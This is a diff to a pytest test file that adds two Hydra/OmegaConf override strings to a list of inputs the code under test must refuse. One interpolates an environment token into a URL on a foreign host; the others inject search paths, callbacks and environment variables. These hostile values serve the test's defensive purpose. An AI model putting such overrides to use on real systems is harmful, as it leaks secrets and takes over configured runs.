@@ -321,7 +321,8 @@ def test_options_that_pass_gptx_by_are_refused(command, option):
 
 
 @pytest.mark.parametrize("words", [["allow_targets=[os.]"], ["hydra.searchpath=[pkg://evil]"], ["+hydra.callbacks.x=1"],
-                                   ["--config-dir=theirs"], ["-m"], ["hydra/launcher=x"], ["++hydra.job.env_set.A=1"]])  # fmt: skip
+                                   ["--config-dir=theirs"], ["-m"], ["hydra/launcher=x"], ["++hydra.job.env_set.A=1"],
+                                   ["data.path=https://theirs/${oc.env:TOKEN}"], ["data.path=${oc.${model}:TOKEN}"]])  # fmt: skip
 def test_a_record_that_goes_beyond_a_recipe_is_made_again_with_trust_alone(tmp_path, monkeypatch, words):
     monkeypatch.chdir(tmp_path)
     folder = foreign(tmp_path / "runs/theirs/cell", {"name": "theirs"})
